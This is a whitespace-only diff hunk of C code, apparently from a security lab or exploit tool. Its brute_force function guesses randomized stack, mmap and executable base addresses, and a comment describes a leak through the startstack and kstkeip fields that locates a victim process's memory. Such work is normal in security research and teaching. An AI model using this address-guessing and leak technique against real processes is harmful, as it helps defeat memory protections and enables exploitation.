@@ -177,11 +177,11 @@ static void brute_force(void)
 	ia32 = st < (1ULL << 32);
 	getrandom(r, sizeof(r), 0);
 	submit(LAB_STACK, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) -
-			      (r[0] & ((1ULL << (ia32 ? 11 : 22)) - 1)) * PAGE);
+				  (r[0] & ((1ULL << (ia32 ? 11 : 22)) - 1)) * PAGE);
 	submit(LAB_MMAP, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) - (128ULL << 20) -
-			     (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
+				 (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
 	submit(LAB_EXE, (ia32 ? 0xaaaaa000ULL : 0x555555554000ULL) +
-			    (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
+				(r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
 }
 
 /* The patch's leak: startstack bounds the stack top; kstkeip sits in the victim's code. */
